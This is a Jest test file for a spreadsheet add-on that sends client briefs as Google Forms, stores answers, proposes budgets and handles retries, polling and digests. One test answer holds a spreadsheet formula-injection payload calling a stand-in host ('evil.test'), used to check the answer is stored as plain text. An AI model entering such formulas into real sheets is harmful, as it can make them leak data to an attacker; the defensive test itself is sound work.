// The brief by link (issue 25), through the built bundle: "Send brief" makes one Google Form per
// deal and template version (Forms REST API, emulated) and queues one e-mail with its link; the
// client's answers come back through "Check answers now" and the hourly run, each response
// recorded once; the budget is proposed and applied only on confirmation; "Start quote from
// brief" gives the calculator its lines.
import { demoWorkspace, records } from './harness';

/* eslint-disable @typescript-eslint/no-explicit-any */
type Any = any;

function prepared() {
  const { ws, addon } = demoWorkspace(80);
  const deal = addon.api_getBoard({ scope: 'all' }).columns.find((c: Any) => c.key === 'new').cards.find((c: Any) => c.editable && c.email);
  return { ws, addon, deal };
}

/** The Forms route's requests, as the emulator saw them. */
function spyForms(ws: Any): string[] {
  const seen: string[] = [];
  const route = ws.fetchRoutes.list().find((r: Any) => r.key === 'forms');
  const handle = route.handle.bind(route);
  route.handle = (request: Any) => {
    const reply = handle(request);
    if (reply) seen.push(`${request.method.toUpperCase()} ${decodeURIComponent(request.url.pathname + request.url.search)}`);
    return reply;
  };
  return seen;
}

function answer(ws: Any, formId: string, budget: string, pages: string) {
  const form = ws.forms.form(formId);
  const byTitle = (start: string) => form.items.find((i: Any) => i.title.startsWith(start)).title;
  ws.forms.submitResponse(formId, { [byTitle('About your business')]: '=IMPORTXML("http://evil.test","//a")', [byTitle('Your budget')]: budget, [byTitle('How many pages')]: pages });
}

describe('the brief by link', () => {
  test('Send brief: one published form with the template\'s questions, one e-mail with its link; the card says "Brief sent · not answered"', () => {
    const { ws, addon, deal } = prepared();
    const seen = spyForms(ws);
    const result = addon.api_sendBrief(deal.id, null, false);
    expect(result).toMatchObject({ created: true, needsConfirmation: false, mail: { status: 'sent' } });
    expect(ws.forms.listForms()).toHaveLength(1);
    const form = ws.forms.listForms()[0];
    expect(form.publishState).toEqual({ isPublished: true, isAcceptingResponses: true });
    expect(form.items.map((i: Any) => i.title)).toEqual(records(ws, 'Briefs').map((r) => r.Question));
    expect(form.info.description).toContain(deal.email);
    expect(seen.map((s) => s.split(' ')[0] + ' ' + s.split(' ')[1].replace(/\/v1\/forms\/[^/:?]+/, '/v1/forms/{id}'))).toEqual([
      'POST /v1/forms', 'POST /v1/forms/{id}:batchUpdate', 'POST /v1/forms/{id}:setPublishSettings',
    ]);
    const mails = ws.mail.sent();
    expect(mails).toHaveLength(1);
    expect(mails[0].to).toEqual([deal.email]);
    expect(mails[0].body).toContain(result.brief.url);
    expect(result.brief.url).toMatch(/^https:\/\/docs\.google\.com\/forms\/d\/e\/[\w-]+\/viewform$/);
    expect(result.brief).toMatchObject({ status: 'sent', label: 'Brief sent · not answered', answers: [] });
    // Sending again asks first and makes no second form.
    const again = addon.api_sendBrief(deal.id, null, false);
    expect(again).toMatchObject({ needsConfirmation: true });
    expect(again.question).toMatch(/already sent/);
    expect(ws.forms.listForms()).toHaveLength(1);
    expect(ws.mail.sent()).toHaveLength(1);
  });

  test('answers twice: two responses stored once each, the latest shown; client text is stored formula-safe; the budget is proposed and applied only on confirmation', () => {
    const { ws, addon, deal } = prepared();
    addon.api_sendBrief(deal.id, null, false);
    const formId = ws.forms.listForms()[0].formId;
    ws.clock.advance(3600_000);
    answer(ws, formId, '€12,000', '5');
    const first = addon.api_checkBriefAnswers(deal.id);
    expect(first.found).toBe(1);
    expect(first.status).toBe('answered');
    expect(first.label).toMatch(/^Brief answered \d{4}-\d\d-\d\d$/);
    ws.clock.advance(3600_000);
    answer(ws, formId, '15000', '8');
    expect(addon.api_checkBriefAnswers(deal.id).found).toBe(1);
    // A rerun finds nothing new and records nothing twice.
    const third = addon.api_checkBriefAnswers(deal.id);
    expect(third.found).toBe(0);
    const rows = records(ws, 'Brief answers').filter((r) => r['Deal ID'] === deal.id);
    expect(rows).toHaveLength(6);
    expect(new Set(rows.map((r) => r['Response ID'])).size).toBe(2);
    expect(third.responses).toBe(2);
    expect(third.answers.find((a: Any) => a.question === 'Your budget').answer).toBe('15000');
    // The client's "=IMPORTXML(...)" is text in the cell, never a formula.
    const values = ws.readSheet('Brief answers').values as unknown[][];
    expect(values.filter((r) => String(r[3]).startsWith('=IMPORTXML'))).toHaveLength(2);
    const formulas: string[][] = ws.execute(() => ws.globals.SpreadsheetApp.getActive().getSheetByName('Brief answers').getDataRange().getFormulas());
    expect(formulas.flat().filter(Boolean)).toEqual([]);
    // Proposed, not applied.
    const before = addon.api_getDeal(deal.id).card;
    expect(third.proposals).toEqual([expect.objectContaining({ field: 'budget', value: 15000, text: 'Budget from the brief: €15,000.00 — apply?' })]);
    expect(addon.api_getDeal(deal.id).card.budget).toBe(before.budget);
    const applied = addon.api_applyBriefAnswer(deal.id, third.proposals[0].answerId, before.version);
    expect(applied.proposals).toEqual([]);
    const after = addon.api_getDeal(deal.id).card;
    expect(after.budget).toBe(15000);
    expect(after.version).toBe(before.version + 1);
    // Start quote from brief: "How many pages" maps to item:WEB-DES.
    const quote = addon.api_quoteFromBrief(deal.id);
    expect(quote.lines).toEqual([expect.objectContaining({ code: 'WEB-DES', quantity: 8, discountPercent: 0 })]);
    expect(quote.lines[0].unitPriceMinor).toBeGreaterThan(0);
  });

  test('a crash right after forms.create, or right after the questions were added: the retry makes no second form and no duplicate questions', () => {
    for (const crashWhen of ['created', 'questions added']) {
      const { ws, addon, deal } = prepared();
      let killed = false;
      ws.calls.guard = () => {
        const forms = ws.forms.listForms();
        const reached = crashWhen === 'created' ? forms.length === 1 : forms.length === 1 && forms[0].items.length > 0;
        if (killed || reached) { killed = true; throw new Error('Exceeded maximum execution time'); }
      };
      expect(() => addon.api_sendBrief(deal.id, null, false)).toThrow();
      ws.calls.guard = null;
      expect(ws.mail.sent()).toHaveLength(0);
      const retry = addon.api_sendBrief(deal.id, null, false);
      expect(retry).toMatchObject({ created: false, mail: { status: 'sent' } });
      expect(ws.forms.listForms()).toHaveLength(1);
      expect(ws.forms.listForms()[0].items).toHaveLength(records(ws, 'Briefs').length);
      expect(ws.mail.sent()).toHaveLength(1);
      expect(records(ws, 'Brief forms').filter((r) => r['Deal ID'] === deal.id)).toHaveLength(1);
    }
  });

  test('the hourly run asks only for responses newer than the last one read (filter timestamp >)', () => {
    const { ws, addon, deal } = prepared();
    addon.api_sendBrief(deal.id, null, false);
    const formId = ws.forms.listForms()[0].formId;
    const seen = spyForms(ws);
    ws.clock.advance(3600_000);
    answer(ws, formId, '9000', '3');
    ws.runTimeTriggers();
    expect(seen.filter((s) => s.includes('/responses'))).toEqual([`GET /v1/forms/${formId}/responses?pageSize=5000`]);
    expect(records(ws, 'Brief answers').filter((r) => r['Deal ID'] === deal.id)).toHaveLength(3);
    const readUpTo = records(ws, 'Brief forms').find((r) => r['Deal ID'] === deal.id)!['Answers read up to'];
    expect(readUpTo).toBe(ws.forms.responsesOf(formId)[0].lastSubmittedTime);
    seen.length = 0;
    ws.clock.advance(3600_000);
    ws.runTimeTriggers();
    expect(seen.filter((s) => s.includes('/responses'))).toEqual([`GET /v1/forms/${formId}/responses?pageSize=5000&filter=timestamp > ${readUpTo}`]);
    expect(records(ws, 'Brief answers').filter((r) => r['Deal ID'] === deal.id)).toHaveLength(3);
    expect(addon.api_getBrief(deal.id)).toMatchObject({ status: 'answered', responses: 1 });
  });

  test('a new answer reaches the deal\'s manager: the next morning digest and Today list it for her, not for another manager; the digest after lists it no more', () => {
    const { ws, addon, deal } = prepared();
    ws.runTimeTriggers(); // Monday 10:00 in Berlin: Monday's digest goes out before the brief is answered
    const managers = records(ws, 'Users').filter((u) => u.Role === 'manager' && u.Active !== false).map((u) => String(u.Email));
    const mine = String(deal.manager);
    const other = managers.find((m) => m.toLowerCase() !== mine.toLowerCase())!;
    expect(managers.map((m) => m.toLowerCase())).toContain(mine.toLowerCase());
    expect(other).toBeDefined();
    addon.api_sendBrief(deal.id, null, false);
    ws.clock.advance(3600_000);
    answer(ws, ws.forms.listForms()[0].formId, '12000', '4');
    ws.runTimeTriggers(); // the hourly "brief answers" job stores it
    expect(records(ws, 'Brief answers').filter((r) => r['Deal ID'] === deal.id)).toHaveLength(3);

    ws.setUser(mine);
    const today = addon.api_getToday();
    expect(today.briefs).toEqual([{ dealId: deal.id, title: deal.title, clientName: deal.clientName, answeredAt: expect.stringMatching(/^2026-11-23T1\d:/) }]);
    ws.setUser(other);
    expect(addon.api_getToday().briefs.map((b: Any) => b.dealId)).not.toContain(deal.id);
    ws.setUser('owner@studio.test');
    expect(addon.api_getToday({ manager: mine }).briefs.map((b: Any) => b.dealId)).toEqual([deal.id]);

    ws.clock.set('2026-11-24T07:05:00Z'); // Tuesday's digest
    ws.runTimeTriggers();
    const digestOf = (email: string, day: string) => ws.mail.sent().find((m: Any) => m.subject.includes(`your day — ${day}`) && m.to[0].toLowerCase() === email.toLowerCase());
    const hers = digestOf(mine, '2026-11-24');
    expect(hers.body).toContain('Briefs answered:');
    expect(hers.body).toMatch(new RegExp(`- ${deal.title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}[^\n]* — answered 2026-11-23 1\\d:\\d\\d`));
    const theirs = digestOf(other, '2026-11-24');
    if (theirs) expect(theirs.body).not.toContain('Briefs answered:');
    // Four days later Today no longer lists it; Wednesday's digest does not repeat it.
    ws.clock.set('2026-11-25T07:05:00Z');
    ws.runTimeTriggers();
    const next = digestOf(mine, '2026-11-25');
    if (next) expect(next.body).not.toContain('Briefs answered:');
    ws.clock.set('2026-11-27T10:05:00Z');
    ws.setUser(mine);
    expect(addon.api_getToday().briefs).toEqual([]);
  });

  test('an executor may not send a brief; the brief Doc no longer asks the client to write into it', () => {
    const { addon, deal, ws } = prepared();
    ws.setUser('eva@studio.test');
    expect(() => addon.api_sendBrief(deal.id, null, false)).toThrow(/Only .* can send a brief|may send/);
    const notifications = records(ws, 'Notifications');
    expect(String(notifications.find((n) => n.Key === 'brief.form')!.Body)).toContain('{{brief.url}}');
    expect(String(notifications.find((n) => n.Key === 'document.brief')!.Body)).not.toMatch(/fill in this short brief/);
  });
});
